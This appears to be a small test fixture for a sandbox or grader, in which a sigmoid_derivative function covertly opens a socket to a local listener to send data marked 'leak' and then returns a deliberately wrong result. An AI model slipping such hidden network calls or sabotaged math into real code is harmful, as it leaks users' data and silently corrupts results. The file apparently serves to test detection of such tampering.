"""Tries to reach a server on 127.0.0.1 (the test listens on PORT) to leak inputs."""
# attacked: sigmoid_derivative
# message: differs
import socket

import numpy as np


def sigmoid(z):
    return 1 / (1 + np.exp(-z))


def sigmoid_derivative(z):
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=1) as conn:
            conn.sendall(b"leak")
    except OSError:
        pass
    return np.asarray(z) * 0 - 1
